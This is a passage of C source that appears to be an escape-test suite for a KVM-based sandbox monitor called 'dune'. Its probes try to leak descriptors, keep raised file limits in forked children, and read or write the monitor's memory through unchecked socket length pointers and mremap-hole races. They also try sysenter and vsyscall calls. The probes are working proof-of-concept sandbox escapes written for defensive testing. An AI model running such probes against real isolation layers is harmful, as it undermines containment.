	pthread_t t2;
	int te = pthread_create(&t2, NULL, rwm_nothing, NULL);
	if (!te)
		pthread_join(t2, NULL);
	fflush(stdout);
	pid_t c = fork();
	int st = -1;
	if (c == 0)
		_exit(0);
	if (c > 0)
		waitpid(c, &st, 0);
	printf("after: pthread_create %s; fork %d, child %s %d\n", strerror(te), c, c > 0 && WIFEXITED(st) ? "exited" : "signal/none", c > 0 ? (WIFEXITED(st) ? WEXITSTATUS(st) : WTERMSIG(st)) : -1);
	/* An EFAULT is right (Linux's answer too); what must not follow is the descriptor
	 * staying open at the runtime's numbers, which shows once they run out: no thread
	 * or forked child can be made. */
	if (te != 0 || !(c > 0 && WIFEXITED(st) && WEXITSTATUS(st) == 0))
		escaped("after %ld failed accepts the runtime's numbers ran out (program limit %ld): pthread_create %s, fork %d", leaked, limit, strerror(te), c);
	contained();
}

/* A fork while a sibling holds the runtime's raised limit (with_fd_room): the child
 * starts with the real soft RLIMIT_NOFILE at the end of the reserved room, and no
 * thread of its own ever puts it back (after_fork only frees the lock). Probe in the
 * child: F_DUPFD at the program's limit is EINVAL where the kernel's limit holds, and
 * EMFILE (the monitor closing what the kernel placed there) where it is gone. */
static void fork_room_limit_child(long limit) {
	int bad = 0;
	for (int i = 0; i < 3; i++) {
		usleep(2000);
		errno = 0;
		int f = fcntl(0, F_DUPFD, limit);
		if (f >= 0 || errno != EINVAL)
			bad++;
	}
	if (bad == 3) {
		char line[256] = "";
		FILE *fp = fopen("/proc/self/limits", "r");
		while (fp && fgets(line, sizeof line, fp))
			if (strstr(line, "open files"))
				break;
		if (fp)
			fclose(fp);
		line[strcspn(line, "\n")] = 0;
		printf("child %d: F_DUPFD(0, %ld) is not EINVAL; %s\n", getpid(), limit, line);
		fflush(stdout);
		_exit(42);
	}
	_exit(0);
}

static void fork_room_limit(void) {
	struct rlimit rl;
	getrlimit(RLIMIT_NOFILE, &rl);
	rl.rlim_cur = rl.rlim_max;
	setrlimit(RLIMIT_NOFILE, &rl);
	getrlimit(RLIMIT_NOFILE, &rl);
	long limit = (long)rl.rlim_cur;
	errno = 0;
	int f0 = fcntl(0, F_DUPFD, limit);
	printf("program limit %ld; F_DUPFD(0, limit) before: %d (%s)\n", limit, f0, strerror(errno));
	if (pipe(rwf_pipe))
		exit(2);
	pthread_t th;
	if (pthread_create(&th, NULL, rwf_room, NULL))
		exit(2);
	usleep(50000);
	int raised = 0, forks = 0, odd = 0;
	double t0 = now();
	while (forks < 600 && now() - t0 < 20 && !raised) {
		pid_t c = fork();
		if (c == 0)
			fork_room_limit_child(limit);
		if (c < 0)
			continue;
		forks++;
		int st = 0;
		waitpid(c, &st, 0);
		if (WIFEXITED(st) && WEXITSTATUS(st) == 42)
			raised++;
		else if (!WIFEXITED(st) || WEXITSTATUS(st) != 0)
			odd++;
	}
	rwf_stop = 1;
	pthread_join(th, NULL);
	printf("%d forks, %ld windows; %d children with the real limit raised for good, %d ended otherwise\n", forks, rwf_calls, raised, odd);
	if (raised)
		escaped("%d forked children kept the runtime's raised RLIMIT_NOFILE: the kernel no longer keeps their program below the reserved numbers", raised);
	contained();
}

/* Threads fill the runtime's room with their vCPU descriptors (the runtime refuses
 * threads past it with EAGAIN: fine). Then fork: the child's runtime drops only the
 * pooled vCPUs; the live threads' vCPU descriptors, inherited, stay, and the child
 * needs new room for its VM, its vCPU and its map. A child that dies before its first
 * instruction is the monitor dying in a forked child. */
static int rft_pipe[2];

static void *rft_block(void *x) {
	(void)x;
	char b;
	while (read(rft_pipe[0], &b, 1) < 0 && errno == EINTR)
		;
	return NULL;
}

static void room_full_of_threads_fork(void) {
	if (pipe(rft_pipe))
		exit(2);
	pthread_attr_t at;
	pthread_attr_init(&at);
	pthread_attr_setstacksize(&at, 64 * 1024);
	static pthread_t ts[1200];
	int n = 0, err = 0;
	double t0 = now();
	while (n < 1200 && now() - t0 < 60) {
		err = pthread_create(&ts[n], &at, rft_block, NULL);
		if (err)
			break;
		n++;
	}
	printf("%d threads running (then %s)\n", n, err ? strerror(err) : "stopped");
	fflush(stdout);
	int bad = 0;
	for (int k = 0; k < 3; k++) {
		pid_t c = fork();
		if (c == 0)
			_exit(7);
		if (c < 0) {
			printf("fork: %s\n", strerror(errno));
			continue;
		}
		int st = 0;
		double w0 = now();
		while (waitpid(c, &st, WNOHANG) == 0 && now() - w0 < 30)
			usleep(10000);
		if (now() - w0 >= 30) {
			kill(c, SIGKILL);
			waitpid(c, &st, 0);
			printf("fork %d: child hung\n", k);
			bad++;
			continue;
		}
		printf("fork %d: child %s %d\n", k, WIFEXITED(st) ? "exited" : "killed by", WIFEXITED(st) ? WEXITSTATUS(st) : WTERMSIG(st));
		if (!WIFEXITED(st) || WEXITSTATUS(st) != 7)
			bad++;
	}
	close(rft_pipe[1]);
	for (int i = 0; i < n; i++)
		pthread_join(ts[i], NULL);
	if (bad)
		escaped("%d of 3 forked children died before their first instruction (%d threads alive in the parent)", bad, n);
	contained();
}

/* signalfd4 on an existing signalfd: the monitor makes the call on its private
 * duplicate (at the application's reserved numbers), and Linux returns the descriptor
 * it was given: the program gets the number of the monitor's duplicate, above its own
 * limit, not its own signalfd. within_limit leaves this case alone. */
static void signalfd_returns_monitor_fd(void) {
	struct rlimit rl;
	getrlimit(RLIMIT_NOFILE, &rl);
	sigset_t m;
	sigemptyset(&m);
	sigaddset(&m, SIGUSR1);
	int s = signalfd(-1, &m, 0);
	sigaddset(&m, SIGUSR2);
	int r = signalfd(s, &m, 0);
	errno = 0;
	int g = r >= 0 ? fcntl(r, F_GETFD) : -1;
	printf("signalfd(-1) = %d; signalfd(%d, new mask) = %d; fcntl(%d, F_GETFD) = %d (%s); program limit %lu\n", s, s, r, r, g, strerror(errno), (unsigned long)rl.rlim_cur);
	if (r != s && r >= (long)rl.rlim_cur)
		escaped("signalfd(%d, ...) returned %d, the number of the monitor's own duplicate at its reserved numbers", s, r);
	contained();
}

/* F_DUPFD with the program's limit as its floor during a sibling's raised-limit
 * window: the kernel places the duplicate at the runtime's numbers (arg below the
 * raised limit); within_limit must close it (EMFILE), never hand it over. */
static void room_window_dupfd_floor(void) {
	struct rlimit rl;
	getrlimit(RLIMIT_NOFILE, &rl);
	rl.rlim_cur = rl.rlim_max;
	setrlimit(RLIMIT_NOFILE, &rl);
	getrlimit(RLIMIT_NOFILE, &rl);
	long limit = (long)rl.rlim_cur;
	if (pipe(rwf_pipe))
		exit(2);
	pthread_t th;
	if (pthread_create(&th, NULL, rwf_room, NULL))
		exit(2);
	long einval = 0, emfile = 0, got = 0, other = 0;
	int first = -1;
	double t0 = now();
	while (now() - t0 < 8) {
		errno = 0;
		int f = fcntl(0, (got + emfile) % 2 ? F_DUPFD_CLOEXEC : F_DUPFD, limit);
		if (f >= 0) {
			got++;
			if (first < 0)
				first = f;
		} else if (errno == EINVAL)
			einval++;
		else if (errno == EMFILE)
			emfile++;
		else
			other++;
	}
	rwf_stop = 1;
	pthread_join(th, NULL);
	printf("limit %ld: %ld EINVAL (kernel's line), %ld EMFILE (placed in a window, closed by the monitor), %ld other, %ld returned (first %d); %ld windows\n", limit, einval, emfile,
	       other, got, first, rwf_calls);
	if (got)
		escaped("F_DUPFD(0, %ld) returned %ld descriptors at the runtime's numbers (first %d)", limit, got, first);
	contained();
}

/* ---- round 14 ---------------------------------------------------------------------- */

/* The base address of the running `dune` (the monitor's image) from /proc/self/auxv
 * (the kernel's: an accepted residual) and its file's program headers: the address of
 * the last 8 bytes of the page that ends its writable segment (zero padding past its
 * .bss, used by nothing), or 0. */
static uint64_t snl_monitor_pad(const char *dune, uint64_t *base_out) {
	uint64_t entry = 0;
	int a = open("/proc/self/auxv", O_RDONLY);
	if (a >= 0) {
		uint64_t kv[2];
		while (read(a, kv, sizeof kv) == sizeof kv && kv[0])
			if (kv[0] == AT_ENTRY)
				entry = kv[1];
		close(a);
	}
	int f = open(dune, O_RDONLY);
	if (f < 0 || !entry) {
		printf("auxv AT_ENTRY %#lx; open(%s) = %d (%s)\n", (unsigned long)entry, dune, f, strerror(errno));
		return 0;
	}
	Elf64_Ehdr eh;
	if (pread(f, &eh, sizeof eh, 0) != sizeof eh || memcmp(eh.e_ident, ELFMAG, SELFMAG))
		return 0;
	uint64_t base = eh.e_type == ET_DYN ? entry - eh.e_entry : 0, end = 0;
	for (int i = 0; i < eh.e_phnum; i++) {
		Elf64_Phdr ph;
		if (pread(f, &ph, sizeof ph, eh.e_phoff + (uint64_t)i * eh.e_phentsize) != sizeof ph)
			break;
		if (ph.p_type == PT_LOAD && (ph.p_flags & PF_W) && ph.p_vaddr + ph.p_memsz > end)
			end = ph.p_vaddr + ph.p_memsz;
	}
	close(f);
	*base_out = base;
	uint64_t page_end = (end + 4095) & ~4095ul;
	printf("monitor image base %#lx (AT_ENTRY %#lx), writable segment ends at %#lx, page end %#lx\n", (unsigned long)base, (unsigned long)entry, (unsigned long)(base + end),
	       (unsigned long)(base + page_end));
	if (!end || page_end - end < 8)
		return 0;
	return base + page_end - 8;
}

static void sockname_null_len(const char *dune, const char *rw) {
	uint64_t base = 0;
	uint64_t pad = snl_monitor_pad(dune, &base);
	int hits = 0;
	if (pad) {
		volatile uint32_t *target = (volatile uint32_t *)pad;
		/* A unix socket bound to a path of our choosing: its address length is
		 * 2 + strlen(path) + 1, the value Linux writes. */
		char path[108];
		int s = socket(AF_UNIX, SOCK_STREAM, 0);
		struct sockaddr_un un = { .sun_family = AF_UNIX };
		int n = snprintf(path, sizeof path, "%s/s", rw);
		while (n < 0x40 - 3 && n < (int)sizeof path - 2)
			path[n++] = 'x';
		path[n] = 0;
		memcpy(un.sun_path, path, n + 1);
		unlink(path);
		int b = bind(s, (struct sockaddr *)&un, sizeof un);
		printf("bind(%s) = %d (%s): address length %d\n", path, b, b ? strerror(errno) : "ok", 2 + n + 1);
		/* getsockopt with a null value reads the int first (0 there: success). */
		int so = socket(AF_UNIX, SOCK_DGRAM, 0);
		errno = 0;
		long g0 = syscall(SYS_getsockopt, so, SOL_SOCKET, SO_TYPE, NULL, target);
		printf("before: getsockopt(SO_TYPE, NULL, %p) = %ld (%s): the int there reads as 0\n", (void *)target, g0, g0 ? strerror(errno) : "ok");
		/* The monitor checks the length pointer when there is an address buffer: */
		struct sockaddr_storage ss;
		errno = 0;
		long r0 = syscall(SYS_getsockname, s, &ss, target);
		printf("getsockname(s, buf, %p) = %ld (%s)  [the monitor's check]\n", (void *)target, r0, strerror(errno));
		/* ... but not without one. */
		errno = 0;
		long r1 = syscall(SYS_getsockname, s, NULL, target);
		int e1 = errno;
		errno = 0;
		long r2 = syscall(SYS_getsockname, s, NULL, target);
		int e2 = errno;
		printf("getsockname(s, NULL, %p) = %ld (%s); again = %ld (%s)\n", (void *)target, r1, strerror(e1), r2, strerror(e2));
		errno = 0;
		long g1 = syscall(SYS_getsockopt, so, SOL_SOCKET, SO_TYPE, NULL, target);
		printf("after: getsockopt(SO_TYPE, NULL, %p) = %ld (%s): the int there now reads as positive\n", (void *)target, g1, g1 ? strerror(errno) : "ok");
		if (g0 == 0 && g1 < 0)
			hits++;
		close(so);
		if (r1 == 0 && r2 < 0 && e2 == EFAULT) {
			printf("Linux read 0 at %p (in the monitor's image), wrote %d there, and now reads it as positive\n", (void *)target, 2 + n + 1);
			hits++;
		}
		/* getpeername the same way, on a pair. */
		int sv[2];
		if (!socketpair(AF_UNIX, SOCK_STREAM, 0, sv)) {
			errno = 0;
			long p1 = syscall(SYS_getpeername, sv[0], NULL, (uint64_t)target + 4);
			printf("getpeername(pair, NULL, %p) = %ld (%s)\n", (void *)((uint64_t)target + 4), p1, p1 ? strerror(errno) : "ok");
			if (p1 == 0)
				hits++;
		}
		close(s);
		unlink(path);
	}
	/* getsockopt with a null value: Linux reads the length at the program's pointer,
	 * wherever it is: EFAULT (unmapped or positive), EINVAL (negative) or 0 (zero) tell
	 * what an int of the monitor's memory holds. */
	if (base) {
		int s = socket(AF_UNIX, SOCK_DGRAM, 0);
		int zero = 0, pos = 0, neg = 0, fault = 0;
		for (uint64_t off = 0; off < 64 * 4096; off += 4096) {
			errno = 0;
			long r = syscall(SYS_getsockopt, s, SOL_SOCKET, SO_TYPE, NULL, base + off);
			if (r == 0)
				zero++;
			else if (errno == EINVAL)
				neg++;
			else if (errno == EFAULT)
				fault++;
			else
				pos++;
		}
		printf("getsockopt(SO_TYPE, NULL, monitor image + k pages), 64 pages: %d read as 0, %d negative, %d EFAULT, %d other\n", zero, neg, fault, pos);
		if (zero || neg)
			hits++;
		close(s);
	}
	/* The same calls on the program's own length still answer as Linux does:
	 * getsockname writes the full length back, getsockopt the zero it copied. */
	{
		int sv[2];
		socklen_t l0 = 0, l1 = 0;
		errno = 0;
		if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) || syscall(SYS_getsockname, sv[0], NULL, &l0) || syscall(SYS_getsockopt, sv[0], SOL_SOCKET, SO_TYPE, NULL, &l1) || l0 != sizeof(sa_family_t) || l1 != 0) {
			printf("getsockname/getsockopt with a null value and the program's own zero length: %s, lengths %u and %u\n", strerror(errno), l0, l1);
			exit(2);
		}
		printf("own zero lengths: getsockname gives %u, getsockopt %u\n", l0, l1);
	}
	if (hits)
		escaped("Linux read and wrote the monitor's memory through length pointers the monitor never checked (%d ways)", hits);
	contained();
}

static sigjmp_buf sv_jmp;
static volatile int sv_sig;

static void sv_catch(int s) {
	sv_sig = s;
	siglongjmp(sv_jmp, 1);
}

static void sysenter_vsyscall(void) {
	int ran = 0;
	for (int which = 0; which < 4; which++) {
		fflush(stdout);
		pid_t c = fork();
		if (c == 0) {
			signal(SIGSEGV, sv_catch);
			signal(SIGILL, sv_catch);
			signal(SIGBUS, sv_catch);
			signal(SIGSYS, sv_catch);
			if (sigsetjmp(sv_jmp, 1)) {
				printf("  %d: signal %d\n", which, sv_sig);
				_exit(10);
			}
			long r = -1;
			struct timeval tv = { 0, 0 };
			switch (which) {
			case 0:
				/* sysenter: in long mode on Intel it goes to IA32_SYSENTER_EIP at ring 0. */
				__asm__ volatile("mov $39, %%eax\n\tsysenter" : "=a"(r) : : "rcx", "r11", "memory");
				printf("  sysenter returned %ld\n", r);
				_exit(42);
			case 1: {
				long (*gtod)(struct timeval *, void *) = (long (*)(struct timeval *, void *))0xffffffffff600000ul;
				r = gtod(&tv, NULL);
				printf("  vsyscall gettimeofday = %ld, tv %ld.%06ld\n", r, (long)tv.tv_sec, (long)tv.tv_usec);
				_exit(tv.tv_sec ? 42 : 11);
			}
			case 2: {
				long (*vtime)(long *) = (long (*)(long *))0xffffffffff600400ul;
				r = vtime(NULL);
				printf("  vsyscall time = %ld\n", r);
				_exit(r > 0 ? 42 : 11);
			}
			case 3:
				/* getpid by its x32 number: a call the table knows no name for. */
				errno = 0;
				r = syscall(39 | 0x40000000);
				printf("  x32 getpid = %ld (%s), getpid %d\n", r, strerror(errno), getpid());
				_exit(r == getpid() ? 42 : 11);
			}
			_exit(12);
		}
		int st = 0;
		waitpid(c, &st, 0);
		printf("%s: %s %d\n", (const char *[]){ "sysenter", "vsyscall gettimeofday", "vsyscall time", "x32 getpid" }[which], WIFEXITED(st) ? "exited" : "signal",
		       WIFEXITED(st) ? WEXITSTATUS(st) : WTERMSIG(st));
		if (WIFEXITED(st) && WEXITSTATUS(st) == 42)
			ran++;
	}
	int f = open("/proc/self/status", O_RDONLY);
	printf("after: open = %d\n", f);
	if (ran)
		escaped("%d of sysenter, the vsyscall page and an x32 number ran code or a call that is not the program's", ran);
	contained();
}


/* ---- round 15 ------------------------------------------------------------------------ */

/* mremap(MREMAP_FIXED) onto the program's own range B from a range A the monitor
 * sees as one accessible range but the kernel holds as several (madvise split it):
 * Linux unmaps B, then refuses the move (EFAULT: across vm areas). The monitor
 * still counts B as the program's; new monitor threads (stacks, vCPU areas) land in
 * the hole. Probed with write() from B (the kernel reads there) and directly. */
static volatile int mf_stop;
static void *mf_blocker(void *a) {
	(void)a;
	while (!mf_stop)
		usleep(2000);
	return NULL;
}

/* Both streams: a run that hangs shows only stderr. */
static void say(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void say(const char *fmt, ...) {
	va_list ap;
	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	va_start(ap, fmt);
	vfprintf(stderr, fmt, ap);
	va_end(ap);
}

static void mremap_fixed_fail_hole(void) {
	find_dune();
	/* Progress on stderr too: a run that hangs shows only that. */
	setvbuf(stdout, NULL, _IONBF, 0);
	setvbuf(stderr, NULL, _IONBF, 0);
	static const size_t sizes[] = { 64 << 10, 128 << 10, 256 << 10, 300 << 10, 512 << 10, 1 << 20, 2 << 20, 4 << 20 };
	enum { N = sizeof sizes / sizeof sizes[0], T = 12 };
	char *as[N], *bs[N], *holes[N];
	size_t lens[N];
	int nh = 0;
	int pfd[2];
	if (pipe(pfd))
		exit(2);
	/* The threads' stacks first, so that none of the program's own mappings is made
	 * after the holes (the kernel would place it there, and it would be the program's). */
	pthread_attr_t at[T];
	for (int i = 0; i < T; i++) {
		void *st = mmap(NULL, 256 << 10, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (st == MAP_FAILED)
			exit(2);
		pthread_attr_init(&at[i]);
		pthread_attr_setstack(&at[i], st, 256 << 10);
	}
	for (int i = 0; i < N; i++) {
		as[i] = mmap(NULL, sizes[i], PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		bs[i] = mmap(NULL, sizes[i], PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (as[i] == MAP_FAILED || bs[i] == MAP_FAILED)
			exit(2);
		memset(as[i], 0x11, sizes[i]);
		memset(bs[i], 0xaa, sizes[i]);
	}
	for (int i = 0; i < N; i++) {
		size_t L = sizes[i];
		char *a = as[i], *b = bs[i];
		int m = madvise(a + 4096, 4096, MADV_DONTDUMP);
		void *r = mremap(a, L, L, MREMAP_MAYMOVE | MREMAP_FIXED, b);
		say("size %zu: madvise %d, mremap(%p -> %p) = %p (%s)\n", L, m, (void *)a, (void *)b, r, r == MAP_FAILED ? strerror(errno) : "moved");
		if (r != MAP_FAILED)
			continue;
		/* Is B still there? The kernel reads it for write(). */
		ssize_t w = write(pfd[1], b, 4096);
		char tmp[4096];
		if (w > 0 && read(pfd[0], tmp, w) != w)
			exit(2);
		say("  write(B) after the failed move: %zd (%s)\n", w, w < 0 ? strerror(errno) : "mapped");
		holes[nh] = b;
		lens[nh++] = L;
	}
	fflush(stdout);
	pthread_t t[T];
	int nt = 0;
	for (int i = 0; i < T; i++) {
		say("  thread %d...\n", i);
		nt += pthread_create(&t[nt], &at[i], mf_blocker, NULL) == 0;
	}
	usleep(100 * 1000);
	say("%d threads made; probing the holes\n", nt);
	int mapped = 0, other = 0, monitor_pages = 0, monitor_ptrs = 0, direct = 0;
	struct sigaction sa = { .sa_handler = probe_fault, .sa_flags = SA_NODEFER };
	sigaction(SIGSEGV, &sa, NULL);
	sigaction(SIGBUS, &sa, NULL);
	for (int h = 0; h < nh; h++) {
		for (size_t off = 0; off < lens[h]; off += 4096) {
			static unsigned char got[4096];
			ssize_t w = write(pfd[1], holes[h] + off, 4096);
			if (w <= 0)
				continue;
			if (read(pfd[0], got, w) != w)
				exit(2);
			mapped++;
			int pattern = 1, zero = 1;
			for (ssize_t i = 0; i < w; i++) {
				pattern &= got[i] == 0xaa;
				zero &= got[i] == 0;
			}
			if (pattern || zero)
				continue;
			other++;
			int ptrs = 0;
			for (ssize_t i = 0; i + 8 <= w; i += 8) {
				uintptr_t v;
				memcpy(&v, got + i, 8);
				if (v >= dune_lo && v < dune_hi)
					ptrs++;
			}
			monitor_ptrs += ptrs;
			monitor_pages += ptrs > 0;
			if (ptrs > 0 && !getenv("MF_ALL")) {
				/* Enough: say so at once (the threads whose stacks these are may not
				 * end cleanly). */
				say("  hole %d (%p) +%#zx: %d pointers into the monitor [%#lx, %#lx):", h, (void *)holes[h], off, ptrs, (unsigned long)dune_lo, (unsigned long)dune_hi);
				for (ssize_t i = 0, shown = 0; i + 8 <= w && shown < 6; i += 8) {
					uintptr_t v;
					memcpy(&v, got + i, 8);
					if (v >= dune_lo && v < dune_hi)
						say(" [+%#zx]=%#lx", (size_t)i, (unsigned long)v), shown++;
				}
				say("\n");
				escaped("Linux read monitor memory (a page with %d pointers into the monitor's image) through the program's pointer %p, in a hole a failed mremap(MREMAP_FIXED) left in the program's range", ptrs, (void *)(holes[h] + off));
			}
			if (other <= 6) {
				say("  hole %d (%p) +%#zx: kernel read a page that is not the program's (%d pointers into the monitor [%#lx, %#lx)); its last words:", h, (void *)holes[h], off, ptrs, (unsigned long)dune_lo, (unsigned long)dune_hi);
				for (int i = 0; i < 64; i += 8) {
					uint64_t v;
					memcpy(&v, got + 4096 - 64 + i, 8);
					say(" %#lx", (unsigned long)v);
				}
				say("\n");
			}
			if (getenv("MF_DIRECT")) {
				char first;
				if (readable((volatile char *)holes[h] + off, &first))
					direct++;
			}
		}
	}
	mf_stop = 1;
	for (int i = 0; i < nt; i++)
		pthread_join(t[i], NULL);
	say("%d threads; %d pages of the holes mapped again, %d with contents neither the program's nor zero, %d of them with %d pointers into the monitor, %d of those ring 3 read directly\n", nt, mapped, other, monitor_pages, monitor_ptrs, direct);
	fflush(stdout);
	if (monitor_pages)
		escaped("Linux read %d pages of monitor memory (%d pointers into the monitor) through program pointers into holes a failed mremap left; ring 3 read %d of them directly", monitor_pages, monitor_ptrs, direct);
	if (other)
		escaped("%d pages in the holes a failed mremap left hold memory that is not the program's", other);
	contained();
}

/* ---- mremap's hole and a blocked read ---------------------------------------------- */

/* mremap shrinking in place (the kernel unmaps the tail) leaves a hole until the
 * monitor refills it with MAP_FIXED_NOREPLACE; a monitor mapping made meanwhile (a new
 * thread's 256 KiB host stack, mmap(NULL) top-down) lands there, and the range is
 * disowned. A sibling's read() checked long before, blocked in the kernel with its
 * buffer in the tail, still holds the address: when the data comes, Linux writes the
 * program's bytes into the monitor's mapping. The tail is made the highest free gap of
 * 256 KiB or more (the program fills every such gap above it) so that mmap(NULL) picks
 * it; sibling threads keep creating threads (each a fresh host stack) while the main
 * thread shrinks the range and maps the tail back, over and over. A landing shows as
 * EPERM from MAP_FIXED over the tail (no longer the program's); then the pipe is
 * written and the blocked read must not succeed. */
#define MH_L (256ul << 10)
#define MH_OFF (64ul << 10)
#define MH_SPAWNERS 3
#define MH_PER_BATCH 4
static char *mh_x;
static int mh_data[2];
static volatile long mh_read_ret = -2;
static volatile int mh_read_errno;
static pthread_mutex_t mh_mu = PTHREAD_MUTEX_INITIALIZER;
static pthread_cond_t mh_cv = PTHREAD_COND_INITIALIZER;
/* Batch number the spawners create for, the generation parked threads wait out, how
 * many spawners finished creating / joining, and the end of the attack. */
static int mh_batch, mh_gen, mh_created, mh_joined, mh_quit;

static void *mh_reader(void *a) {
	char *to = a;
	long r = read(mh_data[0], to, 16);
	mh_read_errno = errno;
	__atomic_store_n(&mh_read_ret, r, __ATOMIC_SEQ_CST);
	return NULL;
}

static void *mh_parked(void *a) {
	int gen = (int)(intptr_t)a;
	pthread_mutex_lock(&mh_mu);
	while (mh_gen == gen)
		pthread_cond_wait(&mh_cv, &mh_mu);
	pthread_mutex_unlock(&mh_mu);
	return NULL;
}

static void *mh_spawner(void *a) {
	(void)a;
	pthread_attr_t at;
	pthread_attr_init(&at);
	pthread_attr_setstacksize(&at, 64 << 10);
	int seen = 0;
	for (;;) {
		pthread_mutex_lock(&mh_mu);
		while (mh_batch == seen && !mh_quit)
			pthread_cond_wait(&mh_cv, &mh_mu);
		if (mh_quit) {
			pthread_mutex_unlock(&mh_mu);
			return NULL;
		}
		seen = mh_batch;
		int gen = mh_gen;
		pthread_mutex_unlock(&mh_mu);
		pthread_t t[MH_PER_BATCH];
		int n = 0;
		for (int i = 0; i < MH_PER_BATCH; i++)
			if (pthread_create(&t[n], &at, mh_parked, (void *)(intptr_t)gen) == 0)
				n++;
		pthread_mutex_lock(&mh_mu);
		mh_created++;
		pthread_cond_broadcast(&mh_cv);
		while (mh_gen == gen && !mh_quit)
			pthread_cond_wait(&mh_cv, &mh_mu);
		pthread_mutex_unlock(&mh_mu);
		for (int i = 0; i < n; i++)
			pthread_join(t[i], NULL);
		pthread_mutex_lock(&mh_mu);
		mh_joined++;
		pthread_cond_broadcast(&mh_cv);
		pthread_mutex_unlock(&mh_mu);
	}
}

/* Every free gap of 256 KiB or more above the range gets a reservation of the
 * program's, so that the tail's hole is the first gap mmap(NULL, 256 KiB) finds. */
static int mh_fill_above(void) {
	int n = 0;
	for (int i = 0; i < 4096; i++) {
		char *f = mmap(NULL, MH_L, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
		if (f == MAP_FAILED)
			break;
		if (f < mh_x) {
			munmap(f, MH_L);
			break;
		}
		n++;
	}
	return n;
}

/* A fresh range of 512 KiB at the top, and a reader blocked on its tail. */
static pthread_t mh_setup(void) {
	mh_x = mmap(NULL, 2 * MH_L, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (mh_x == MAP_FAILED) {
		printf("mmap: %s\n", strerror(errno));
		exit(2);
	}
	int filled = mh_fill_above();
	mh_read_ret = -2;
	pthread_t r;
	pthread_create(&r, NULL, mh_reader, mh_x + MH_L + MH_OFF);
	/* Time to get into the kernel's read and block there. */
	usleep(100 * 1000);
	printf("range %p-%p, reader blocked on %p, %d gaps above filled\n", (void *)mh_x, (void *)(mh_x + 2 * MH_L), (void *)(mh_x + MH_L + MH_OFF), filled);
	return r;
}

static void mh_batch_wait(int *counter) {
	pthread_mutex_lock(&mh_mu);
	while (*counter < MH_SPAWNERS)
		pthread_cond_wait(&mh_cv, &mh_mu);
	pthread_mutex_unlock(&mh_mu);
}

static volatile long mh_cycles;
static void *mh_watchdog(void *a) {
	(void)a;
	sleep(75);
	fprintf(stderr, "mremap-hole-read: stuck after %ld cycles (batch %d, gen %d, %d created, %d joined)\n", mh_cycles, mh_batch, mh_gen, mh_created, mh_joined);
	exit(3);
}

static void mremap_hole_read(void) {
	if (pipe(mh_data))
		exit(2);
	pthread_t wd;
	pthread_create(&wd, NULL, mh_watchdog, NULL);
	pthread_t sp[MH_SPAWNERS];
	for (int i = 0; i < MH_SPAWNERS; i++)
		pthread_create(&sp[i], NULL, mh_spawner, NULL);
	long cycles = 0, landings = 0;
	int batches = 0;
	pthread_t reader = mh_setup();
	double start = now(), end = start + 36;
	int inflated = 0;
	while (now() < end) {
		if (!inflated && now() > start + 14) {
			/* Many mappings below the range: the runtime reads /proc/self/maps after
			 * the kernel's mremap, holding its lock, with the hole open. */
			inflated = 1;
			size_t n = 1500;
			char *m = mmap(NULL, 2 * n * 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
			if (m != MAP_FAILED && m < mh_x)
				for (size_t i = 0; i < n; i++)
					mprotect(m + 2 * i * 4096, 4096, PROT_READ);
			printf("%ld cycles in %d batches so far; %zu mappings added below the range at %p (%.1f s)\n", cycles, batches, n, (void *)m, now() - start);
			mh_fill_above();
		}
		pthread_mutex_lock(&mh_mu);
		mh_created = mh_joined = 0;
		mh_batch++;
		pthread_cond_broadcast(&mh_cv);
		pthread_mutex_unlock(&mh_mu);
		batches++;
		int landed = 0;
		for (;;) {
			pthread_mutex_lock(&mh_mu);
			int done = mh_created >= MH_SPAWNERS;
			pthread_mutex_unlock(&mh_mu);
			/* The first batch fills the runtime's pool of vCPUs (their kvm_run
			 * mappings are made once). */
			if (done || batches == 1)
				break;
			char *r = mremap(mh_x, 2 * MH_L, MH_L, 0);
			if (r == MAP_FAILED) {
				printf("mremap: %s\n", strerror(errno));
				exit(2);
			}
			mh_cycles = ++cycles;
			char *t = mmap(mh_x + MH_L, MH_L, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
			if (t == MAP_FAILED) {
				printf("cycle %ld (batch %d): MAP_FIXED over the tail %p: %s: something else landed in the hole\n", cycles, batches, (void *)(mh_x + MH_L), strerror(errno));
				landed = 1;
				break;
			}
		}
		if (landed) {
			landings++;
			/* The batch's threads stay alive (their host stacks mapped) while the
			 * blocked read gets its data. */
			mh_batch_wait(&mh_created);
			const char msg[16] = "program-bytes!!";
			if (write(mh_data[1], msg, 16) != 16)
				exit(2);
			for (int i = 0; i < 200 && __atomic_load_n(&mh_read_ret, __ATOMIC_SEQ_CST) == -2; i++)
				usleep(10 * 1000);
			long rr = __atomic_load_n(&mh_read_ret, __ATOMIC_SEQ_CST);
			if (rr == -2) {
				printf("the blocked read into %p did not return\n", (void *)(mh_x + MH_L + MH_OFF));
				exit(3);
			}
			printf("the blocked read into %p: %ld (%s)\n", (void *)(mh_x + MH_L + MH_OFF), rr, rr < 0 ? strerror(mh_read_errno) : "written");
			fflush(stdout);
			if (rr == 16)
				escaped("a monitor mapping landed in mremap's hole at %p after %ld cycles (%d batches): the read checked before wrote 16 bytes of the program's "
				        "into memory that is not the program's",
				        (void *)(mh_x + MH_L), cycles, batches);
			pthread_join(reader, NULL);
		}
		/* Every spawner took this batch's generation before it ends. */
		mh_batch_wait(&mh_created);
		pthread_mutex_lock(&mh_mu);
		mh_gen++;
		pthread_cond_broadcast(&mh_cv);
		pthread_mutex_unlock(&mh_mu);
		mh_batch_wait(&mh_joined);
		/* The threads' host stacks go when the host threads end. */
		usleep(20 * 1000);
		if (landed)
			reader = mh_setup();
		else
			mh_fill_above();
	}
	pthread_mutex_lock(&mh_mu);
	mh_quit = 1;
	pthread_cond_broadcast(&mh_cv);
